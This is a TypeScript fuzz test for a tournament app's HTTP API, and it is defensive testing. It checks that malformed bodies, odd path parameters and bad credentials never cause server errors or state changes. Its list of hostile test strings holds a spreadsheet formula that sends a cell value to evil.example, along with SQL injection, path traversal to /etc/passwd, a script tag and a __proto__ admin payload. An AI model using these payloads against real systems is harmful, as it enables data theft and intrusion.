/**
 * Property-based fuzz of every write operation in the OpenAPI document, through the real route
 * handlers: bodies shaped by each operation's JSON schema with mutations (wrong types, missing
 * and extra fields, huge strings, control characters, lone surrogates, bidi, out-of-range
 * numbers), bad JSON, wrong content types and odd path parameters. Whatever is sent, the answer
 * is never a 5xx, and a 4xx changes nothing.
 *
 * Reproduce a failure with the seed fast-check prints: HOLONET_FUZZ_SEED=<seed> npx vitest run tests/api/fuzz.test.ts
 * More cases per operation: HOLONET_FUZZ_RUNS=500.
 */
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { hasControl, hasLoneSurrogate } from "@/lib/schemas/text";
import { getDb } from "@/lib/db";
import { openApiDocument } from "@/lib/api/openapi";
import { createApiToken } from "@/lib/server/accounts/accounts";
import { makeCut } from "@/lib/server/rounds/cut";
import { pairNextRound } from "@/lib/server/rounds/rounds";
import { updateEventSettings } from "@/lib/server/events/event-settings";
import type { User } from "@/lib/schemas/auth";
import { newUser } from "../helpers";
import { createGuild, inviteToGuild } from "@/lib/server/guilds/guilds";
import { myProfile } from "@/lib/server/accounts/profiles";
import { handlerFor } from "./routes";
import { RoundProof } from "@/lib/schemas/round-proof";
import { eventSnapshot } from "./snapshot";
import { addStaffUser, eventWith, finishRound } from "../server/event-helpers";
import { attachEvent, createSeason } from "@/lib/server/seasons/seasons";
import { refuseTag, tagEvent } from "@/lib/server/seasons/tags";
import { mergeProfiles } from "@/lib/server/accounts/profile-merge";
import { inviteCoOrganizer } from "@/lib/server/seasons/co-organizers";
import { addCoOrganizer } from "../server/season-helpers";
import { createQueue, joinQueue } from "@/lib/server/queues/queues";
import { createSchedule } from "@/lib/server/queues/schedules";

const RUNS = Number(process.env.HOLONET_FUZZ_RUNS ?? 100);
const SEED = process.env.HOLONET_FUZZ_SEED ? Number(process.env.HOLONET_FUZZ_SEED) : undefined;
const WRITE_METHODS = ["post", "put", "patch", "delete"] as const;

type Json = Record<string, unknown>;
type Schema = Json & { $ref?: string; type?: string | string[]; properties?: Record<string, Schema>; required?: string[] };

const doc = openApiDocument() as unknown as { paths: Record<string, Record<string, { requestBody?: { content: Record<string, { schema: Schema }> } }>>; components: { schemas: Record<string, Schema> } };
const operations = Object.entries(doc.paths).flatMap(([p, methods]) =>
  WRITE_METHODS.filter((m) => methods[m]).map((method) => ({ method, path: p, body: methods[method]!.requestBody?.content["application/json"]?.schema })),
);

// ── Values ──────────────────────────────────────────────────────────────────────────────────

const NASTY_STRINGS = [
  "\u0000", "a\u0000b", "a\ud800b", "\udc00", "\ud83d", "\u202eevil\u202c", "\u2066x\u2069", "\u200b\u200b", "\u200d", "\ufeff", "\u0301",
  "\u0007bell", "\u001b[31m", "\u007f", "\u0085", "line\nbreak", "\r\n", "\t", " ", "", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
  "+1", "-1", "@SUM(1)", "' OR 1=1 --", "NaN", "Infinity", "-Infinity", "1e400", "1e20", "-0", "2147483648", "null", "undefined", "{}", "[]",
  "%00", "%E0%A4%A", "../../etc/passwd", "<script>alert(1)</script>", "💥🃏", "ᄀ\u3164", "x".repeat(81), "x".repeat(5001),
];
const NASTY_NUMBERS = [0, -1, 1.5, -0.5, 2147483647, 2147483648, -2147483649, 1e20, -1e20, 1e308, Number.MAX_SAFE_INTEGER + 2, 0.1, 10001, 501, 241, 9];

/** Strings of up to ~1 MB; the longest pass the body cap once JSON-encoded. */
const hugeString = fc.constantFrom(10_000, 200_000, 1_100_000).chain((n) => fc.constantFrom("x", "\u200b", "é", "\ud83c\udccf").map((c) => c.repeat(Math.ceil(n / c.length))));
const anyChar = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const oddString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: anyChar, maxLength: 40 }) },
  { weight: 2, arbitrary: fc.tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...NASTY_STRINGS), fc.string({ maxLength: 10 })).map((t) => t.join("")) },
  { weight: 1, arbitrary: hugeString },
);
const junk: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: oddString },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_NUMBERS) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>([], {}, [[[[[]]]]], { constructor: { prototype: {} } }) },
);

const resolve = (s: Schema): Schema => (s.$ref ? resolve(doc.components.schemas[s.$ref.split("/").pop()!]!) : s);
const typeOf = (s: Schema) => (Array.isArray(s.type) ? s.type : s.type ? [s.type] : []);
/** A schedule's recurrence rule: parts that read and parts that froze the server (issue 34). */
const rulePart = fc.oneof(
  fc.constantFrom("FREQ=YEARLY", "FREQ=MONTHLY", "FREQ=WEEKLY", "FREQ=DAILY", "FREQ=HOURLY", "FREQ=MINUTELY", "FREQ=SECONDLY", "FREQ=XX", "WKST=SU", "BYSECOND=5", "X-NAME=1", "DTSTART=20260101T000000"),
  fc.oneof(fc.integer({ min: -3, max: 120 }), fc.constantFrom(-2147483649, 2147483648, 1e20, 99999999999)).map((n) => `INTERVAL=${n}`),
  fc.oneof(fc.integer({ min: -3, max: 1200 }), fc.constantFrom(-1, 0, 1e9)).map((n) => `COUNT=${n}`),
  fc.constantFrom("UNTIL=20261205T180000Z", "UNTIL=20461231", "UNTIL=19000101", "UNTIL=20261345", "UNTIL=99999999T999999", "UNTIL=-1"),
  fc.array(fc.integer({ min: -400, max: 400 }), { minLength: 1, maxLength: 5 }).map((l) => `BYSETPOS=${l.join(",")}`),
  fc.array(fc.integer({ min: -3, max: 30 }), { minLength: 1, maxLength: 30 }).map((l) => `BYHOUR=${l.join(",")}`),
  fc.array(fc.integer({ min: -3, max: 70 }), { minLength: 1, maxLength: 8 }).map((l) => `BYMINUTE=${l.join(",")}`),
  fc.array(fc.constantFrom("MO", "TU", "SA", "1MO", "-1FR", "XX", "0SA", "99TU"), { minLength: 1, maxLength: 4 }).map((l) => `BYDAY=${l.join(",")}`),
  fc.array(fc.integer({ min: -33, max: 33 }), { minLength: 1, maxLength: 4 }).map((l) => `BYMONTHDAY=${l.join(",")}`),
  fc.array(fc.integer({ min: -1, max: 13 }), { minLength: 1, maxLength: 3 }).map((l) => `BYMONTH=${l.join(",")}`),
);
const ruleString = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom("FREQ=DAILY", "FREQ=WEEKLY", "FREQ=MINUTELY", "FREQ=HOURLY", "FREQ=YEARLY"), fc.array(rulePart, { maxLength: 4 })).map(([f, parts]) => [f, ...parts].join(";")) },
  { weight: 1, arbitrary: fc.array(rulePart, { minLength: 1, maxLength: 5 }).map((parts) => parts.join(";")) },
);

const validString = (key: string): fc.Arbitrary<string> => {
  if (key === "rule") return ruleString;
  if (key === "firstStart") return fc.constantFrom("2046-01-03T19:00", "2026-12-24T23:59", "2046-02-30T19:00", "9999-12-31T23:59", "2046-01-03");
  if (/email/i.test(key)) return fc.tuple(fc.stringMatching(/^[a-z]{1,8}$/), fc.constantFrom("", "+x")).map(([u, t]) => `${u}${t}@fuzz.example`);
  if (/password/i.test(key)) return fc.constantFrom("a long fuzz password", "correct horse battery");
  if (key === "timeZone") return fc.oneof(fc.constantFrom("Europe/Berlin", "UTC", "America/New_York", "Asia/Kolkata"), fc.string({ maxLength: 30 }));
  return fc.oneof(fc.constantFrom("Kyle Katarn", "Mara Jade", "Rebel Alliance", "The Hunt for Han Solo (#86)", "Échoes d'Endor"), fc.string({ minLength: 1, maxLength: 30 }));
};

/** A value that fits `schema` (as far as JSON Schema tells), by key name for strings. */
function valid(schema: Schema, key = "", depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(schema);
  const options = (s.anyOf ?? s.oneOf) as Schema[] | undefined;
  if (options) return fc.oneof(...options.map((o) => value(o, key, depth)));
  if ("const" in s) return fc.constant(s.const);
  if (Array.isArray(s.enum)) return fc.constantFrom(...(s.enum as unknown[]));
  const types = typeOf(s);
  if (types.length > 1) return fc.oneof(...types.map((t) => value({ ...s, type: t }, key, depth)));
  switch (types[0]) {
    case "null":
      return fc.constant(null);
    case "boolean":
      return fc.boolean();
    case "integer":
    case "number":
      return fc.integer({ min: (s.minimum as number | undefined) ?? -5, max: (s.maximum as number | undefined) ?? 1000 });
    case "string":
      return s.format === "date-time" ? fc.date({ min: new Date("2020-01-01"), max: new Date("2030-01-01"), noInvalidDate: true }).map((d) => d.toISOString()) : validString(key);
    case "array": {
      if (Array.isArray(s.prefixItems)) return fc.tuple(...(s.prefixItems as Schema[]).map((item) => value(item, key, depth + 1)));
      const min = (s.minItems as number | undefined) ?? 0;
      return fc.array(value((s.items as Schema | undefined) ?? {}, key, depth + 1), { minLength: min, maxLength: Math.max(min, 3) + 2 });
    }
    case "object": {
      const props = s.properties ?? {};
      const required = new Set(s.required ?? []);
      const drop = required.size ? fc.option(fc.subarray([...required], { minLength: 1 }), { freq: 6 }) : fc.constant(null);
      return fc
        .tuple(
          fc.record(Object.fromEntries(Object.entries(props).map(([k, v]) => [k, value(v, k, depth + 1)])), { requiredKeys: [...required] }),
          drop,
          fc.option(fc.dictionary(fc.string({ maxLength: 8 }), junk, { maxKeys: 2 }), { freq: 5 }),
        )
        .map(([present, dropped, extra]) => {
          // Mostly every required key; sometimes some are missing, sometimes keys nobody asked for.
          const out: Json = { ...(extra ?? {}), ...present };
          for (const k of dropped ?? []) delete out[k];
          return out;
        });
    }
    default:
      return junk;
  }
}

/** Mostly a value that fits, sometimes junk in its place (wrong type, odd string, huge, out of range). */
function value(schema: Schema, key = "", depth = 0): fc.Arbitrary<unknown> {
  if (depth > 6) return junk;
  return fc.oneof({ weight: 5, arbitrary: valid(schema, key, depth) }, { weight: 1, arbitrary: junk });
}

interface Body {
  bytes?: BodyInit;
  contentType?: string;
  length?: string;
}
const jsonBody = (v: unknown): Body => ({ bytes: JSON.stringify(v) ?? "", contentType: "application/json" });

function bodies(schema: Schema | undefined): fc.Arbitrary<Body> {
  const shaped = schema ? value(schema) : fc.oneof(fc.constant({}), junk);
  return fc.oneof(
    { weight: 12, arbitrary: shaped.map(jsonBody) },
    { weight: 1, arbitrary: fc.constantFrom("{", '{"name":', "[1,2", "nul", "{'a':1}", '{"a":1}}', "\u0000", "\ufeff{}", '{"__proto__":{"admin":true},"name":"x"}', '{"a":"\\ud800"}', '{"a":"\\u0000"}', "1e400").map((t) => ({ bytes: t, contentType: "application/json" })) },
    { weight: 1, arbitrary: fc.tuple(shaped, fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", undefined)).map(([v, type]) => ({ bytes: JSON.stringify(v) ?? "{}", contentType: type })) },
    { weight: 1, arbitrary: fc.constantFrom<Body>({ bytes: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]), contentType: "application/json" }, { bytes: "{}", contentType: "application/json", length: "99999999999" }, { bytes: `{"name":"${"x".repeat(1_100_000)}"}`, contentType: "application/json" }) },
  );
}

// ── Path parameters ─────────────────────────────────────────────────────────────────────────

const ODD_PARAMS = ["\u0000", "a\u0000", "%00", "%E0%A4%A", "\ud800", "2147483648", "1e20", "-1", "0", "1.5", "NaN", " 1", "0x1", "99999999999999999999", "x".repeat(300), "../..", "", "missing"];
type ParamPick = { kind: "valid"; index: number } | { kind: "odd"; value: string };
const paramPick: fc.Arbitrary<ParamPick> = fc.oneof(
  { weight: 8, arbitrary: fc.nat(20).map((index) => ({ kind: "valid" as const, index })) },
  { weight: 1, arbitrary: fc.constantFrom(...ODD_PARAMS).map((value) => ({ kind: "odd" as const, value })) },
);

// ── Fixtures: events in registration, in a Swiss round, and in elimination ──────────────────

interface Fixture {
  eventId: string;
  org: User;
  token: string;
}

async function fixtures(): Promise<Fixture[]> {
  const registration = await eventWith(6, { swissRounds: 2, cutSize: 0 });
  await addStaffUser(registration.eventId, "judge");
  // Profiles for the people operations (merge, undo): two without an account, one of an account.
  const db = await getDb();
  for (const [i, player] of registration.players.slice(0, 2).entries()) {
    const profile = await db.playerProfile.create({ data: { displayName: `Fuzz ${i}` } });
    await db.player.update({ where: { id: player.id }, data: { profileId: profile.id } });
  }
  const claimer = await newUser("fuzz-claimer");
  const own = await db.playerProfile.create({ data: { displayName: "Fuzz account", userId: claimer.id } });
  await db.player.update({ where: { id: registration.players[2]!.id }, data: { profileId: own.id } });
  // A merge request the organizer asked for (their profile into the account's): the mergeId to withdraw.
  await mergeProfiles(registration.org, (await myProfile(registration.org)).id, { into: own.id });
  const swiss = await eventWith(8, { swissRounds: 2, cutSize: 0 });
  await addStaffUser(swiss.eventId, "marshal");
  await pairNextRound(swiss.org, swiss.eventId);
  const elimination = await eventWith(8, { swissRounds: 1, cutSize: 4 });
  await pairNextRound(elimination.org, elimination.eventId);
  await finishRound(elimination.org, elimination.eventId, 1);
  await makeCut(elimination.org, elimination.eventId);
  await pairNextRound(elimination.org, elimination.eventId);
  // Guilds: each organizer leads one with an officer, a member and a pending invitation.
  for (const { org } of [registration, swiss, elimination]) {
    const { id: guildId } = await createGuild(org, { name: `Fuzz guild ${Math.random().toString(36).slice(2, 10)}`, tag: "FZ" });
    const extra = await Promise.all([0, 1].map((i) => db.playerProfile.create({ data: { displayName: `Fuzz guild member ${i}` } })));
    await db.guildMember.createMany({ data: [{ guildId, profileId: extra[0]!.id, role: "officer", officerSince: new Date() }, { guildId, profileId: extra[1]!.id, role: "member" }] });
    await inviteToGuild(org, guildId, { profileId: (await myProfile(await newUser("fuzz-invitee"))).id });
  }
  // A season per organizer, with their event attached (the season operations' ids).
  for (const { eventId, org } of [registration, swiss, elimination]) {
    const s = await createSeason(org, { name: "Fuzz League", game: "ffg-swtcg", preset: "store-league", schedule: "dates", startsAt: "2026-01-01T00:00:00Z", endsAt: "2027-01-01T00:00:00Z" });
    await attachEvent(org, s.id, { eventId });
    // A co-organizer who accepted and an invitation pending (the co-organizer operations' ids).
    await addCoOrganizer(org, s.id, await newUser("fuzz-co"));
    await inviteCoOrganizer(org, s.id, { email: `fuzz-co-${s.id}@test.holonet.local` });
    // And one counting tagged events, the event tagged for it (the tag operations' ids).
    const t = await createSeason(org, { name: "Fuzz Tagged League", game: "ffg-swtcg", preset: "store-league", schedule: "dates", startsAt: "2026-01-01T00:00:00Z", endsAt: "2027-01-01T00:00:00Z", counts: "tagged" });
    await tagEvent(org, eventId, { seasonId: t.id });
    // And one whose tag was refused (the refusal to lift).
    const r = await createSeason(org, { name: "Fuzz Refusing League", game: "ffg-swtcg", preset: "store-league", schedule: "dates", startsAt: "2026-01-01T00:00:00Z", endsAt: "2027-01-01T00:00:00Z", counts: "tagged" });
    await tagEvent(org, eventId, { seasonId: r.id });
    await refuseTag(org, r.id, eventId);
    // A queue with a player waiting and a weekly schedule (the queue and schedule operations' ids).
    const q = await createQueue(org, { name: "Fuzz queue", cap: 8, template: { event: { name: "Fuzz Queue", preset: "swg-swiss" } } });
    await joinQueue(await newUser("fuzz-waiting"), q.id);
    await createSchedule(org, { name: "Fuzz weekly", template: { event: { name: "Fuzz Weekly", preset: "swg-swiss" } }, firstStart: "2046-01-01T19:00", rule: "FREQ=WEEKLY", timeZone: "UTC" }, new Date("2045-12-30T00:00:00Z"));
  }
  return Promise.all([registration, swiss, elimination].map(async ({ eventId, org }) => ({ eventId, org, token: await createApiToken(org.id) })));
}

/** The organizer's queues and schedules (theirs first, then anyone's the fuzz made). */
async function queueIdsOf(org: User) {
  const db = await getDb();
  const [queues, schedules] = await Promise.all([
    db.queue.findMany({ where: { organizerId: org.id }, select: { id: true }, orderBy: { createdAt: "asc" }, take: 2 }),
    db.schedule.findMany({ where: { organizerId: org.id }, select: { id: true }, orderBy: { createdAt: "asc" }, take: 2 }),
  ]);
  return { queueId: queues.map((r) => r.id), scheduleId: schedules.map((r) => r.id) };
}

/** The organizer's guild, its members' profiles and its invitations. */
async function guildIdsOf(org: User) {
  const db = await getDb();
  const mine = await db.guildMember.findFirst({ where: { profile: { userId: org.id } }, select: { guildId: true } });
  if (!mine) return { guildId: [], invitationId: [], profileId: [] };
  const [members, invitations] = await Promise.all([
    db.guildMember.findMany({ where: { guildId: mine.guildId }, select: { profileId: true }, orderBy: { profileId: "asc" } }),
    db.guildInvitation.findMany({ where: { guildId: mine.guildId }, select: { id: true }, orderBy: { id: "asc" } }),
  ]);
  return { guildId: [mine.guildId], invitationId: invitations.map((i) => i.id), profileId: members.map((m) => m.profileId) };
}

async function idsOf(eventId: string) {
  const db = await getDb();
  const [players, matches, staff, rounds, profiles, seasons] = await Promise.all([
    db.player.findMany({ where: { eventId }, select: { id: true }, orderBy: { seq: "asc" } }),
    db.match.findMany({ where: { eventId }, select: { id: true }, orderBy: { id: "asc" } }),
    db.eventStaff.findMany({ where: { eventId }, select: { id: true }, orderBy: { createdAt: "asc" } }),
    db.round.findMany({ where: { eventId }, select: { number: true }, orderBy: { number: "asc" } }),
    db.playerProfile.findMany({ where: { OR: [{ players: { some: { eventId } } }, { mergedIntoId: { not: null }, displayName: { startsWith: "Fuzz" } }] }, select: { id: true }, orderBy: { id: "asc" } }),
    db.season.findMany({ where: { OR: [{ events: { some: { eventId } } }, { tags: { some: { eventId } } }] }, select: { id: true, coOrganizers: { select: { userId: true } }, invitations: { select: { id: true } } }, orderBy: { id: "asc" } }),
  ]);
  const profileIds = profiles.map((r) => r.id);
  const merges = await db.profileMerge.findMany({ where: { OR: [{ fromId: { in: profileIds } }, { intoId: { in: profileIds } }] }, select: { id: true }, orderBy: { id: "asc" } });
  // Queues and occurrences are not an event's: any there are (the fuzz's own POSTs make them).
  const [queues, occurrences] = await Promise.all([
    db.queue.findMany({ select: { id: true }, orderBy: { createdAt: "desc" }, take: 3 }),
    db.occurrence.findMany({ select: { id: true }, orderBy: { startsAt: "asc" }, take: 3 }),
  ]);
  // A team is an entrant (a Player row): team ids are player ids.
  return {
    queueId: queues.map((r) => r.id),
    occurrenceId: occurrences.map((r) => r.id), playerId: players.map((r) => r.id), teamId: players.map((r) => r.id), matchId: matches.map((r) => r.id), staffId: staff.map((r) => r.id), number: rounds.map((r) => String(r.number)), profileId: profiles.map((r) => r.id), seasonId: seasons.map((r) => r.id), mergeId: merges.map((r) => r.id),
    userId: seasons.flatMap((r) => r.coOrganizers.map((c) => c.userId)), invitationId: seasons.flatMap((r) => r.invitations.map((i) => i.id)) };
}

/** Accounts, tokens and events of the people a body names: what signup, login and create-event could add. */
async function accountSnapshot(org: User, body: unknown): Promise<string> {
  const db = await getDb();
  const raw = typeof body === "object" && body !== null && typeof (body as Json).email === "string" ? ((body as Json).email as string) : null;
  // An email PostgreSQL cannot even compare (NUL, a lone surrogate) can name no account.
  const storable = raw !== null && !hasControl(raw) && !hasLoneSurrogate(raw);
  const emails = storable ? [raw, raw.trim().toLowerCase()] : [];
  const rows = await Promise.all([
    db.user.findMany({ where: { email: { in: emails } }, select: { id: true } }),
    db.apiToken.count({ where: { userId: org.id } }),
    db.eventStaff.count({ where: { userId: org.id } }),
    // A season import makes a season.
    db.season.count({ where: { organizerId: org.id } }),
    // Guild calls: every change writes a history entry.
    db.guildHistory.count(),
    db.guildMember.count(),
    // Queues and schedules: every change writes a history entry or moves a player.
    db.queueAuditEntry.count(),
    db.queueEntry.count(),
    db.occurrenceEntry.count(),
    db.queue.count(),
    db.schedule.count(),
    db.guildInvitation.count({ where: { status: "pending" } }),
    // Merge requests: a refused close leaves them pending.
    db.profileMerge.count({ where: { status: "pending" } }),
  ]);
  return JSON.stringify(rows);
}

/** The URL is only for the record (params are passed as Next.js passes them, decoded). */
const pathSegment = (v: string) => {
  try {
    return encodeURIComponent(v);
  } catch {
    return "%ED%A0%80"; // a lone surrogate has no UTF-8 form
  }
};

const parseBody = (b: Body): unknown => {
  try {
    return typeof b.bytes === "string" ? JSON.parse(b.bytes) : null;
  } catch {
    return null;
  }
};

// ── The property ────────────────────────────────────────────────────────────────────────────

describe("fuzz: every write operation of the OpenAPI document", () => {
  it("lists write operations, each mapped to its route handler", async () => {
    expect(operations.length).toBeGreaterThanOrEqual(21);
    for (const op of operations) await handlerFor(op.method, op.path);
  });

  let cases = 0;
  const statuses = new Map<number, number>();
  for (const op of operations) {
    it(`${op.method.toUpperCase()} ${op.path}: never 5xx; a 4xx changes nothing`, async () => {
      const handler = await handlerFor(op.method, op.path);
      const events = await fixtures();
      const paramNames = [...op.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
      const arbitrary = fc.record({
        fixture: fc.nat(events.length - 1),
        params: fc.tuple(...paramNames.map(() => paramPick)),
        body: bodies(op.body),
        auth: fc.oneof({ weight: 20, arbitrary: fc.constant("organizer") }, { weight: 1, arbitrary: fc.constantFrom("none", "garbage") }),
      });
      await fc.assert(
        fc.asyncProperty(arbitrary, async ({ fixture, params, body, auth }) => {
          cases++;
          const ev = events[fixture]!;
          const [eventIds, guildIds, queueIds] = await Promise.all([idsOf(ev.eventId), guildIdsOf(ev.org), queueIdsOf(ev.org)]);
          const ids = { ...eventIds, ...guildIds, invitationId: [...guildIds.invitationId, ...eventIds.invitationId], queueId: [...queueIds.queueId, ...eventIds.queueId], scheduleId: queueIds.scheduleId, profileId: [...eventIds.profileId, ...guildIds.profileId], eventId: [ev.eventId] } as Record<string, string[]>;
          const resolved = Object.fromEntries(
            paramNames.map((name, i) => {
              const pick = params[i]!;
              const pool = ids[name] ?? [];
              return [name, pick.kind === "odd" ? pick.value : (pool[pick.index % Math.max(pool.length, 1)] ?? "missing")];
            }),
          );
          const url = `http://fuzz.local/api/v1${op.path.replace(/\{(\w+)\}/g, (_, n: string) => pathSegment(resolved[n]!))}`;
          const headers: Record<string, string> = {};
          if (auth === "organizer") headers.authorization = `Bearer ${ev.token}`;
          if (auth === "garbage") headers.authorization = "Bearer not-a-token";
          if (body.contentType) headers["content-type"] = body.contentType;
          if (body.length) headers["content-length"] = body.length;
          const parsed = parseBody(body);
          const snapshot = () => (op.path.includes("{eventId}") || op.path.includes("{seasonId}") ? eventSnapshot(ev.eventId) : accountSnapshot(ev.org, parsed));
          const before = await snapshot();
          let request: Request;
          try {
            request = new Request(url, { method: op.method.toUpperCase(), headers, body: body.bytes });
          } catch {
            return; // not a request a client can send (e.g. a header with a NUL)
          }
          const res = await handler(request, { params: Promise.resolve(paramNames.length ? resolved : undefined) });
          const text = await res.text();
          statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
          expect(res.status, `${op.method.toUpperCase()} ${url} → ${res.status} ${text.slice(0, 300)}`).toBeLessThan(500);
          if (res.status >= 400) {
            expect(await snapshot(), `${op.method.toUpperCase()} ${url} → ${res.status} changed state`).toBe(before);
            expect(JSON.parse(text)).toMatchObject({ error: { code: expect.any(String), message: expect.any(String) } });
          }
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: true },
      );
    });
  }

  it(`ran at least 2,000 cases in all`, () => {
    console.log(`fuzz: ${cases} cases; statuses ${JSON.stringify(Object.fromEntries([...statuses].sort(([a], [b]) => a - b)))}`);
    expect(cases).toBeGreaterThanOrEqual(Math.min(2000, RUNS * operations.length));
  });
});

// ── Reads with a query string: odd values of each documented query parameter ───────────────

type Param = { name: string; in: string; schema?: { enum?: string[] } };
const queryReads = Object.entries(doc.paths).flatMap(([p, methods]) => {
  const get = (methods as Record<string, { parameters?: Param[] }>).get;
  const params = get?.parameters ?? [];
  return params.some((x) => x.in === "query") ? [{ path: p, params }] : [];
});
const queryValue = fc.oneof(fc.constantFrom("1", "2", "0", "-1", "50", "200", "201", "1e3", "0x10", " 2", "99999999999", "yes", "kyle", "ab"), oddString.filter((v) => v.length < 5000));

describe("fuzz: reads with a query string", () => {
  it("lists them", () => {
    expect(queryReads.map((r) => r.path)).toContain("/ratings/{game}");
  });
  for (const read of queryReads) {
    it(`GET ${read.path}: never 5xx; a 4xx names its error`, async () => {
      const handler = await handlerFor("get", read.path);
      const pathParams = read.params.filter((x) => x.in === "path");
      const queryNames = read.params.filter((x) => x.in === "query").map((x) => x.name);
      const arbitrary = fc.record({
        path: fc.tuple(...pathParams.map((x) => (x.schema?.enum ? fc.oneof(fc.constantFrom(...x.schema.enum), fc.constantFrom(...ODD_PARAMS)) : fc.constantFrom(...ODD_PARAMS)))),
        query: fc.array(fc.tuple(fc.oneof(fc.constantFrom(...queryNames), fc.constantFrom("sort", "page[]", "")), queryValue), { maxLength: 4 }),
      });
      await fc.assert(
        fc.asyncProperty(arbitrary, async ({ path, query }) => {
          const params = Object.fromEntries(pathParams.map((x, i) => [x.name, path[i]!]));
          const search = new URLSearchParams();
          for (const [k, v] of query) search.append(k, v.replace(/[\ud800-\udfff]/g, "?"));
          const url = `http://fuzz.local/api/v1${read.path.replace(/\{(\w+)\}/g, (_, n: string) => pathSegment(params[n]!))}?${search}`;
          const res = await handler(new Request(url), { params: Promise.resolve(params) });
          const text = await res.text();
          expect(res.status, `GET ${url} → ${res.status} ${text.slice(0, 300)}`).toBeLessThan(500);
          if (res.status >= 400) expect(JSON.parse(text)).toMatchObject({ error: { code: expect.any(String), message: expect.any(String) } });
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: true },
      );
    });
  }
});

// ── A round's reasons and proof: any event id and round number in the path ───────────────────

describe("fuzz: GET a round's reasons and proof", () => {
  let eventId = "";
  beforeAll(async () => {
    const f = await eventWith(5, { swissRounds: 2 });
    await pairNextRound(f.org, f.eventId);
    // Round 2 is a draft (issue 41): no caller without a role at the event gets it.
    await finishRound(f.org, f.eventId, 1);
    await updateEventSettings(f.org, f.eventId, { draftRounds: true });
    await pairNextRound(f.org, f.eventId);
    eventId = f.eventId;
  });
  for (const path of ["/events/{eventId}/rounds/{number}/reasons", "/events/{eventId}/rounds/{number}/proof"]) {
    it(`GET ${path}: never 5xx; 200 only for a published round, with its document (never the draft)`, async () => {
      const handler = await handlerFor("get", path);
      const arbitrary = fc.record({
        event: fc.oneof(fc.constant("real"), fc.constantFrom(...ODD_PARAMS)),
        number: fc.oneof(fc.constantFrom("1", "2", "01", "10000", "10001"), fc.constantFrom(...ODD_PARAMS)),
      });
      await fc.assert(
        fc.asyncProperty(arbitrary, async ({ event, number }) => {
          const params = { eventId: event === "real" ? eventId : event, number };
          const url = `http://fuzz.local/api/v1${path.replace("{eventId}", pathSegment(params.eventId)).replace("{number}", pathSegment(number))}`;
          const res = await handler(new Request(url), { params: Promise.resolve(params) });
          const text = await res.text();
          expect(res.status, `GET ${url} → ${res.status} ${text.slice(0, 300)}`).toBeLessThan(500);
          if (res.status >= 400) expect(JSON.parse(text)).toMatchObject({ error: { code: expect.any(String), message: expect.any(String) } });
          else {
            expect(event === "real" && (number === "1" || number === "01")).toBe(true);
            if (path.endsWith("/proof")) expect(RoundProof.safeParse(JSON.parse(text)).success).toBe(true);
          }
        }),
        { numRuns: Math.min(RUNS, 60), seed: SEED, endOnFailure: true },
      );
    });
  }
});

// ── One's own data: whatever credentials come, 200 for a live token (that account's data), 401 otherwise ──

describe("fuzz: GET /me/export", () => {
  it("never 5xx; only a live token's own account", async () => {
    const handler = await handlerFor("get", "/me/export");
    const owner = await newUser("fuzz-export");
    const token = await createApiToken(owner.id);
    const credential = fc.oneof(
      { weight: 3, arbitrary: fc.constant(`Bearer ${token}`) },
      { weight: 3, arbitrary: oddString.filter((v) => v.length < 5000).map((v) => `Bearer ${v}`) },
      { weight: 2, arbitrary: fc.constantFrom("", "Bearer", "Basic dXNlcjpwYXNz", `bearer ${token}`, `Bearer ${token}x`, `Bearer ${token.slice(0, -1)}`) },
      { weight: 1, arbitrary: fc.constant(null) },
    );
    await fc.assert(
      fc.asyncProperty(credential, async (auth) => {
        let request: Request;
        try {
          request = new Request("http://fuzz.local/api/v1/me/export", { headers: auth === null ? {} : { authorization: auth } });
        } catch {
          return; // not a header a client can send
        }
        const res = await handler(request, { params: Promise.resolve(undefined) });
        const text = await res.text();
        expect(res.status, `${auth} → ${res.status} ${text.slice(0, 200)}`).toBeLessThan(500);
        if (res.status === 200) expect(JSON.parse(text).account.id).toBe(owner.id);
        else expect(JSON.parse(text)).toMatchObject({ error: { code: expect.any(String), message: expect.any(String) } });
      }),
      { numRuns: RUNS, seed: SEED, endOnFailure: true },
    );
  });
});

beforeAll(async () => {
  await newUser("fuzz-warmup"); // migrate the embedded database before the timed cases
});
